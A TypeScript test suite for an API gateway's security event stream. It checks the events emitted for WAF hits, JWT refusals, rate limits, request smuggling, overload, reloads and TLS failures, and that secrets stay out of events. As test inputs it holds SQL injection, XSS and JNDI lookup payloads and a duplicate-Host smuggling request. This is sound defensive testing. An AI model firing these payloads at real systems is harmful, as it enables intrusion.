/**
 * The security event stream over real sockets: what arrives on
 * gateway.telemetry.events when a waf in monitor mode sees an injection, a
 * JWT is refused, a secret rides on a request, a TLS handshake fails, the
 * config is reloaded, the parser or the framing check refuses a request, and
 * the gateway sheds load. Tests subscribe to the bus as a sink would.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import { SignJWT, exportSPKI, type JWTPayload } from 'jose';
import { send, startGateway, type TestGateway } from '../helpers/gateway.js';
import { rawExchange } from '../helpers/raw.js';
import { makePki, tlsHandshake, type Pki } from '../helpers/tls.js';
import { startUpstream, type TestUpstream } from '../helpers/upstream.js';
import type { TelemetryEvent } from '../../src/telemetry/event.js';

const ISSUER = 'https://idp.events.test';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Every event the gateway emits from now on, as a sink would receive them. */
function watch(gw: TestGateway): { events: TelemetryEvent[]; next(match: (e: TelemetryEvent) => boolean): Promise<TelemetryEvent>; stop(): void } {
  const events: TelemetryEvent[] = [];
  const stop = gw.gateway.telemetry.events.subscribe((e) => events.push(e));
  return {
    events,
    stop,
    async next(match) {
      const deadline = Date.now() + 5000;
      for (;;) {
        const found = events.find(match);
        if (found) return found;
        if (Date.now() > deadline) throw new Error(`event not seen in time; seen: ${JSON.stringify(events.map((e) => e.type))}`);
        await sleep(10);
      }
    },
  };
}

describe('security events', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;
  let rsa: { privateKey: KeyObject; publicKey: KeyObject };
  let other: { privateKey: KeyObject; publicKey: KeyObject };

  const token = (claims: JWTPayload = {}, kid = 'k1', key = rsa.privateKey) =>
    new SignJWT({ iss: ISSUER, sub: 'alice', aud: 'orders', iat: Math.floor(Date.now() / 1000), exp: Math.floor(Date.now() / 1000) + 300, ...claims })
      .setProtectedHeader({ alg: 'RS256', kid })
      .sign(key);

  before(async () => {
    upstream = await startUpstream();
    rsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
    other = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const pem = await exportSPKI(rsa.publicKey);
    gw = await startGateway(`
telemetry: { node_id: edge-1 }
listeners: [{ name: main, address: "127.0.0.1:0" }]
services: [{ name: orders, targets: [{ url: "${upstream.url}" }] }]
routes:
  - name: trial
    service: orders
    public: true
    match: { paths: [/trial] }
    policies: [{ waf: { mode: monitor } }]
  - name: orders
    service: orders
    match: { paths: [/orders] }
    policies:
      - jwt:
          issuers: [{ issuer: "${ISSUER}", name: events-idp, algorithms: [RS256], audiences: [orders], keys: [{ kid: k1, pem: ${JSON.stringify(pem)} }] }]
          clock_skew: 0s
  - name: keyed
    service: orders
    match: { paths: [/keyed] }
    policies:
      - key-auth: {}
      - waf: { mode: monitor }
  - name: limited
    service: orders
    match: { paths: [/limited] }
    policies:
      - key-auth: {}
      - acl: { deny: [suspended] }
      - rate-limit: { limit: 1, window: 1h, by: consumer }
  - name: screened
    service: orders
    public: true
    match: { paths: [/screened] }
    policies:
      - ip-restriction: { deny: [127.0.0.0/8] }
  - name: bots
    service: orders
    public: true
    match: { paths: [/bots] }
    policies:
      - bot-detection: {}
consumers:
  - { name: alice }
  - { name: shop, credentials: { key-auth: [{ key: "a-real-key-0123456789abcdef" }] } }
  - { name: mallory, groups: [suspended], credentials: { key-auth: [{ key: "mallory-key-0123456789abcdef" }] } }
`);
  });
  after(async () => {
    await gw?.close();
    await upstream?.close();
  });

  it('a waf monitor hit on ?id=1\' OR \'1\'=\'1 carries the rule, category, paranoia, score, target query:id and a sample; the access line keeps its short list', async () => {
    const w = watch(gw);
    const res = await send(gw.url, `/trial/items?id=${encodeURIComponent("1' OR '1'='1")}`, { headers: { 'user-agent': 'events-test' } });
    assert.equal(res.status, 200, 'monitor mode lets it through');
    const id = String(res.headers['x-request-id']);
    const e = await w.next((x) => x.request?.id === id);
    w.stop();
    assert.equal(e.type, 'waf.sqli');
    assert.equal(e.category, 'threat');
    assert.equal(e.action, 'monitored');
    assert.equal(e.severity, 'high');
    assert.equal(e.source, 'waf');
    assert.equal(e.reason, 'sqli');
    assert.equal(e.node, 'edge-1');
    assert.match(String(e.details?.rule), /^sqli\./);
    assert.equal(e.details?.category, 'sqli');
    assert.equal(e.details?.paranoia, 1);
    assert.equal(e.details?.target, 'query:id');
    assert.ok(Number(e.details?.score) >= 5);
    assert.equal(e.details?.sample, "1' OR '1'='1");
    assert.deepEqual(
      { route: e.request?.route, service: e.request?.service, path: e.request?.path, status: e.request?.status, clientIp: e.request?.clientIp },
      { route: 'trial', service: 'orders', path: '/trial/items', status: 403, clientIp: '127.0.0.1' },
      'the status is the one the client would have had',
    );
    assert.match(e.time, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    const line = await gw.waitForLog((l) => l.type === 'access' && l.request_id === id);
    assert.deepEqual(line.events, ['monitored:waf.sqli']);
  });

  it('names a JSON body target by its path (body:user.name)', async () => {
    const w = watch(gw);
    const res = await send(gw.url, '/trial/users', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ user: { name: '<script>alert(1)</script>' } }) });
    const e = await w.next((x) => x.request?.id === res.headers['x-request-id']);
    w.stop();
    assert.equal(e.type, 'waf.xss');
    assert.equal(e.details?.target, 'body:user.name');
    assert.equal(e.details?.sample, '<script>alert(1)</script>');
  });

  it('says why a JWT was refused (wrong issuer, wrong audience, expired, bad signature, unknown kid) while the client gets the same 401', async () => {
    const cases: Array<[string, string, Record<string, unknown>]> = [
      ['wrong_issuer', await token({ iss: 'https://evil.test' }), { claim: 'iss', issuer: 'https://evil.test' }],
      ['wrong_audience', await token({ aud: 'billing' }), { claim: 'aud', issuer: 'events-idp' }],
      ['expired', await token({ exp: Math.floor(Date.now() / 1000) - 60 }), { claim: 'exp' }],
      ['bad_signature', await token({}, 'k1', other.privateKey), { kid: 'k1', alg: 'RS256' }],
      ['unknown_key', await token({}, 'rotated-away'), { kid: 'rotated-away' }],
    ];
    const w = watch(gw);
    const bodies = new Set<string>();
    const challenges = new Set<string>();
    for (const [reason, jwt, details] of cases) {
      const res = await send(gw.url, '/orders/1', { headers: { authorization: `Bearer ${jwt}` } });
      assert.equal(res.status, 401, reason);
      const body = res.json<{ error: Record<string, unknown> }>();
      delete body.error.request_id;
      bodies.add(JSON.stringify(body));
      challenges.add(String(res.headers['www-authenticate']));
      const e = await w.next((x) => x.request?.id === res.headers['x-request-id']);
      assert.equal(e.type, 'auth.invalid_credentials', reason);
      assert.equal(e.category, 'authentication');
      assert.equal(e.reason, reason);
      assert.equal(e.details?.method, 'jwt');
      for (const [k, v] of Object.entries(details)) assert.equal(e.details?.[k], v, `${reason}: ${k}`);
      assert.ok(!JSON.stringify(e).includes(jwt), 'the token never reaches an event');
    }
    w.stop();
    assert.equal(bodies.size, 1, `one body for every reason: ${[...bodies].join(' / ')}`);
    assert.equal(challenges.size, 1, 'one challenge for every reason');
    assert.ok(![...bodies][0]!.includes('issuer') && ![...bodies][0]!.includes('expired'), 'the client is not told which part was wrong');
  });

  it('carries the consumer and credential id of an authenticated caller', async () => {
    const w = watch(gw);
    const res = await send(gw.url, `/keyed/x?q=${encodeURIComponent('<script>x</script>')}`, { headers: { 'x-api-key': 'a-real-key-0123456789abcdef' } });
    assert.equal(res.status, 200);
    const e = await w.next((x) => x.request?.id === res.headers['x-request-id']);
    w.stop();
    assert.equal(e.request?.consumer, 'shop');
    assert.ok(e.request?.credentialId, 'the credential id is there');
    assert.ok(!JSON.stringify(e).includes('a-real-key-0123456789abcdef'), 'but never the key');
  });

  it('says which limit, group, address or bot a refusal was about, never the key a caller was counted by', async () => {
    const w = watch(gw);
    const key = { 'x-api-key': 'a-real-key-0123456789abcdef' };
    assert.equal((await send(gw.url, '/limited/a', { headers: key })).status, 200);
    const limited = await send(gw.url, '/limited/a', { headers: key });
    assert.equal(limited.status, 429);
    const suspended = await send(gw.url, '/limited/a', { headers: { 'x-api-key': 'mallory-key-0123456789abcdef' } });
    assert.equal(suspended.status, 403);
    const screened = await send(gw.url, '/screened/a');
    assert.equal(screened.status, 403);
    const bot = await send(gw.url, '/bots/a', { headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } });
    assert.equal(bot.status, 403);
    const of = (res: { headers: Record<string, unknown> }) => w.next((x) => x.request?.id === res.headers['x-request-id']);
    const [rate, acl, ip, scanner] = [await of(limited), await of(suspended), await of(screened), await of(bot)];
    w.stop();
    assert.deepEqual([rate.type, rate.category, rate.details?.limit, rate.details?.window, rate.details?.key, rate.request?.consumer], ['rate_limit.exceeded', 'traffic', 1, '1h', 'consumer', 'shop']);
    assert.deepEqual([acl.type, acl.category, acl.details?.group, acl.request?.consumer], ['authz.group_denied', 'authorization', 'suspended', 'mallory']);
    assert.deepEqual([ip.type, ip.category, ip.details?.ip], ['ip.denied', 'network', '127.0.0.1']);
    assert.deepEqual([scanner.type, scanner.category, scanner.details?.bot], ['bot.scanner', 'threat', 'sqlmap']);
    assert.match(String(scanner.details?.user_agent), /^sqlmap\/1\.7\.2/);
    assert.ok(!JSON.stringify([rate, acl]).includes('0123456789abcdef'), 'no key in any of them');
  });

  it('never lets a secret of the request into any event: Authorization, cookies, API keys, passwords, tokens in the query', async () => {
    const secrets = {
      bearer: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzZWNyZXQtYmVhcmVyIn0.c2VjcmV0LXNpZ25hdHVyZS0xMjM0NQ',
      cookie: 'Sess1onSecretValue9f8e7d6c5b4a',
      apiKey: 'ApiKeySecret0123456789zyxwvu',
      password: "hunter2' OR '1'='1",
      queryToken: "QueryTok3nSecret' OR '1'='1",
      jndi: 'JndiSecretInAuthHeader42',
    };
    const w = watch(gw);
    const headers = { authorization: `Bearer ${secrets.bearer}`, cookie: `session=${secrets.cookie}; theme=dark' OR '1'='1`, 'x-api-key': secrets.apiKey };
    await send(gw.url, '/keyed/a', { headers });
    await send(gw.url, '/orders/a', { headers });
    await send(gw.url, '/trial/login', {
      method: 'POST',
      headers: { authorization: headers.authorization, 'x-api-key': secrets.apiKey, 'content-type': 'application/x-www-form-urlencoded' },
      body: `user=alice&password=${encodeURIComponent(secrets.password)}`,
    });
    await send(gw.url, `/trial/q?access_token=${encodeURIComponent(secrets.queryToken)}`, { headers });
    await send(gw.url, '/trial/h', { headers: { authorization: `Bearer \${jndi:ldap://x/${secrets.jndi}}` } });
    const last = await send(gw.url, '/trial/c', { headers: { cookie: `sid=${encodeURIComponent(secrets.password)}` } });
    await w.next((x) => x.request?.id === last.headers['x-request-id']);
    w.stop();
    const kinds = new Set(w.events.map((e) => `${e.type}:${String(e.details?.target ?? '')}`));
    for (const expected of ['auth.invalid_credentials:', 'waf.sqli:body:password', 'waf.sqli:query:access_token', 'waf.ssti:header:authorization']) {
      assert.ok(kinds.has(expected), `an event ${expected} was emitted (${[...kinds].join(', ')})`);
    }
    const all = JSON.stringify(w.events);
    for (const [name, secret] of Object.entries(secrets)) {
      assert.ok(!all.includes(secret), `${name} appears in no event`);
      assert.ok(!all.includes(encodeURIComponent(secret)), `${name} appears in no event, encoded or not`);
    }
    assert.ok(!all.includes('hunter2') && !all.includes('Sess1on') && !all.includes('QueryTok3n') && !all.includes('JndiSecret'), 'not even in part');
    for (const e of w.events) if (e.details?.target === 'body:password') assert.equal(e.details.sample, '[redacted]');
  });
});

describe('gateway events: framing, parser refusals, overload, reload', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;
  const held: Array<() => void> = [];
  const config = (routes = 1) => `
telemetry: { node_id: edge-2 }
gateway: { limits: { max_in_flight: 2 } }
listeners: [{ name: main, address: "127.0.0.1:0" }]
services: [{ name: api, targets: [{ url: "${upstream.url}" }] }]
routes:
  - { name: api, service: api, public: true, match: { paths: [/] } }
${routes > 1 ? '  - { name: extra, service: api, public: true, match: { paths: [/extra] } }' : ''}
`;

  before(async () => {
    upstream = await startUpstream((req, res) => {
      if (req.url?.includes('hold')) held.push(() => res.end('ok'));
      else res.end('ok');
    });
    gw = await startGateway(config());
  });
  after(async () => {
    for (const release of held.splice(0)) release();
    await gw?.close();
    await upstream?.close();
  });

  it('reports request smuggling attempts with the framing problem', async () => {
    const w = watch(gw);
    const reply = await rawExchange(gw.port, 'GET / HTTP/1.1\r\nHost: a.test\r\nHost: b.test\r\n\r\n');
    assert.equal(reply.status, 400);
    const e = await w.next((x) => x.type === 'request.smuggling_attempt');
    w.stop();
    assert.equal(e.category, 'protocol');
    assert.equal(e.action, 'blocked');
    assert.equal(e.severity, 'high');
    assert.equal(e.reason, 'duplicate_host');
    assert.equal(e.request?.clientIp, '127.0.0.1');
    assert.equal(e.request?.route, undefined, 'refused before routing');
  });

  it('reports a request the HTTP parser refused, with no request around it', async () => {
    const w = watch(gw);
    const reply = await rawExchange(gw.port, 'GET / HTTP/1.1\r\nHost: a\r\nBad Header: x\r\n\r\n');
    assert.equal(reply.status, 400);
    const e = await w.next((x) => x.type === 'request.malformed');
    w.stop();
    assert.equal(e.request, undefined);
    assert.equal(e.reason, 'bad_request');
    assert.equal(e.details?.listener, 'main');
    assert.equal(e.details?.client_ip, '127.0.0.1');
    assert.match(String(e.details?.parser_code), /^HPE_/);
  });

  it('reports shed requests with the reason', async () => {
    const w = watch(gw);
    const busy = [send(gw.url, '/hold'), send(gw.url, '/hold')];
    while (held.length < 2) await sleep(5);
    const shed = await send(gw.url, '/more');
    assert.equal(shed.status, 503);
    const e = await w.next((x) => x.request?.id === shed.headers['x-request-id']);
    for (const release of held.splice(0)) release();
    await Promise.all(busy);
    w.stop();
    assert.equal(e.type, 'gateway.overloaded');
    assert.equal(e.category, 'overload');
    assert.equal(e.reason, 'in_flight');
    assert.equal(e.source, 'gateway');
  });

  it('does not describe every shed request while shedding: at most 20 events per 10 s, then a count', async () => {
    const w = watch(gw);
    const busy = [send(gw.url, '/hold'), send(gw.url, '/hold')];
    while (held.length < 2) await sleep(5);
    const shed = [];
    for (let i = 0; i < 40; i++) shed.push(await send(gw.url, `/more/${i}`));
    assert.ok(shed.every((r) => r.status === 503));
    for (const release of held.splice(0)) release();
    await Promise.all(busy);
    await w.next((x) => x.request?.path === '/more/0' || x.type === 'gateway.overloaded');
    await sleep(100);
    w.stop();
    const events = w.events.filter((x) => x.type === 'gateway.overloaded');
    // The earlier test used one of this window's 20; 40 shed requests in a row fit in a window or two.
    assert.ok(events.length >= 1 && events.length <= 40, `${events.length} events for 40 shed requests`);
    assert.ok(events.length < 40, 'not one per shed request');
  });

  it('reports a reload with the versions before and after, and a refused one', async () => {
    const w = watch(gw);
    const ok = await gw.reload(config(2));
    assert.equal(ok.ok, true);
    const reloaded = await w.next((x) => x.type === 'config.reloaded');
    assert.equal(reloaded.category, 'config');
    assert.equal(reloaded.action, 'changed');
    assert.equal(reloaded.node, 'edge-2');
    assert.deepEqual(
      { before: reloaded.details?.version_before, after: reloaded.details?.version_after, routes: reloaded.details?.routes, file: reloaded.details?.file },
      { before: 1, after: 2, routes: 2, file: gw.configFile },
    );
    const bad = await gw.reload(`${config(2)}\nroutes: nope\n`);
    assert.equal(bad.ok, false);
    const refused = await w.next((x) => x.type === 'config.reload_refused');
    w.stop();
    assert.equal(refused.action, 'observed');
    assert.equal(refused.severity, 'medium');
    assert.equal(refused.details?.version, 2, 'the version that keeps serving');
    assert.ok(Number(refused.details?.issues) >= 1);
  });
});

describe('gateway events: TLS', () => {
  let pki: Pki;
  let upstream: TestUpstream;
  let gw: TestGateway;

  before(async () => {
    pki = await makePki();
    await pki.issue('api', { dns: ['api.example.com'] });
    await pki.issue('soon', { dns: ['soon.example.com'], ttlMs: 3 * 86_400_000 });
    upstream = await startUpstream();
    gw = await startGateway(tlsConfig(false), { dir: pki.dir });
  });
  after(async () => {
    await gw?.close();
    await upstream?.close();
  });

  function tlsConfig(withSoon: boolean): string {
    return `
listeners:
  - name: secure
    address: "127.0.0.1:0"
    protocol: https
    tls:
      require_sni: true
      certificates:
        - { cert: api.crt, key: api.key }
${withSoon ? '        - { cert: soon.crt, key: soon.key }' : ''}
services: [{ name: api, targets: [{ url: "${upstream.url}" }] }]
routes: [{ name: api, service: api, public: true }]
`;
  }

  it('reports a failed handshake with the reason, the server name asked for and the client address', async () => {
    const w = watch(gw);
    await assert.rejects(tlsHandshake(gw.port, { ca: pki.caPem, servername: 'unknown.example.org' }));
    const e = await w.next((x) => x.type === 'tls.handshake_failed');
    w.stop();
    assert.equal(e.category, 'tls');
    assert.equal(e.action, 'observed');
    assert.equal(e.source, 'tls');
    assert.equal(e.reason, 'unknown_sni');
    assert.equal(e.details?.sni, 'unknown.example.org');
    assert.equal(e.details?.client_ip, '127.0.0.1');
    assert.equal(e.details?.listener, 'secure');
    assert.equal(e.request, undefined);
  });

  it('does not let one address flood the stream with handshake failures', async () => {
    const w = watch(gw);
    const attempts = 30;
    for (let i = 0; i < attempts; i++) await assert.rejects(tlsHandshake(gw.port, { ca: pki.caPem, servername: `scan${i}.example.org` }));
    await w.next((x) => x.type === 'tls.handshake_failed');
    w.stop();
    const seen = w.events.filter((x) => x.type === 'tls.handshake_failed').length;
    // 5 per address per 10 s: 30 failures in a row fit in a window or two, never thirty events.
    assert.ok(seen >= 1 && seen <= 10, `${seen} events for ${attempts} failures`);
  });

  it('warns of a certificate near its expiry when it is loaded', async () => {
    const w = watch(gw);
    const result = await gw.reload(tlsConfig(true));
    assert.equal(result.ok, true);
    const e = await w.next((x) => x.type === 'certificate.expiring');
    w.stop();
    assert.equal(e.category, 'certificate');
    assert.equal(e.details?.source, 'listener:secure');
    assert.equal(e.details?.role, 'server');
    assert.ok(Number(e.details?.days_left) <= 3);
    assert.match(String(e.details?.not_after), /^\d{4}-/);
  });
});
